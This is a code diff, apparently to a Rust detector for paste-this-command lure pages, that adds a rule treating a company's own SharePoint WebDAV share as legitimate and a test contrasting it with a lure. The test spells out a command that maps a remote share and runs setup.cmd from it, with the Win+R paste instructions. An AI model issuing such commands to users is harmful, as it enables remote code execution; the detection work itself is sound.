@@ -254,7 +254,7 @@ impl Command {
         // A WebDAV share on the page's own site is how an IT page maps its drive.
         let unc = unc_host(&self.flat);
         let dav = unc.contains('@') || has(&self.flat, "davwwwroot");
-        let elsewhere = !same_site(unc.split('@').next().unwrap_or(""), page_site);
+        let elsewhere = !own_share(unc, page_site);
         if unc_reaches_out(&self.flat) && (dav && elsewhere || ip_host(unc)) {
             return 2;
         }
@@ -1117,6 +1117,21 @@ fn same_site(host: &str, site: &str) -> bool {
         && host
             .strip_suffix(site)
             .is_some_and(|h| h.is_empty() || h.ends_with('.'))
+}
+
+/// A share host on the page's registrable domain `site`, or whose first label spells the site's
+/// name, hyphens aside: a company's SharePoint tenant (`marlowhousing.sharepoint.com@SSL` on
+/// marlow-housing.example), which a kit must register per site (review 38 CX38-H3).
+fn own_share(host: &str, site: &str) -> bool {
+    let host = host.split('@').next().unwrap_or("");
+    let name = site.split('.').next().unwrap_or("");
+    let label = host.split('.').next().unwrap_or("");
+    same_site(host, site)
+        || name.len() >= 4
+            && label
+                .bytes()
+                .filter(|&c| c != b'-')
+                .eq(name.bytes().filter(|&c| c != b'-'))
 }
 
 /// Extensions Windows runs when a path to them is opened.
@@ -2175,7 +2190,7 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // share is what IT pages copy.
     let host = unc_host(&command.flat);
     let dav = host.contains('@') || has(&command.flat, "davwwwroot");
-    let elsewhere = registrable(host.split('@').next().unwrap_or("")) != page.site;
+    let elsewhere = !own_share(host, &page.site);
     let unc_lure = dav && elsewhere || ip_host(host);
     // A reference page (a sysadmin wiki, a command cheat sheet) shows the very command it
     // copies and tells nothing around it: no human check, no repair, error, update or infection.
@@ -5120,6 +5135,21 @@ mod tests {
         // `eval` of anything else, and base64 decoded to the screen, are not.
         assert!(shapes_of("eval \"$(ssh-agent -s)\" && ssh-add").is_empty());
         assert!(shapes_of("echo aGVsbG8= | base64 -D").is_empty());
+    }
+
+    /// Review 38 CX38-H3: an intranet page mapping its company's SharePoint tenant over WebDAV
+    /// and running its installer from it; the same from a share another name owns is a lure.
+    #[test]
+    fn a_share_on_the_company_tenant_is_its_own() {
+        let text =
+            "Install the office printers. Click Copy, press Windows + R, type cmd and press \
+                    Enter, then right-click to paste the line and press Enter.";
+        let url = "https://intranet.marlow-housing.example/it/print-setup";
+        let own =
+            r"net use P: \\marlowhousing.sharepoint.com@SSL\DavWWWRoot\sites\it && P:\setup.cmd";
+        assert!(reasons(&snap_of(url, "", text, own)).is_none());
+        let kit = r"net use P: \\printfix.sharepoint.com@SSL\DavWWWRoot\sites\it && P:\setup.cmd";
+        assert!(reasons(&snap_of(url, "", text, kit)).is_some());
     }
 
     /// Session 38: the steps' other wordings (right-click on the Start menu, the Windows key held
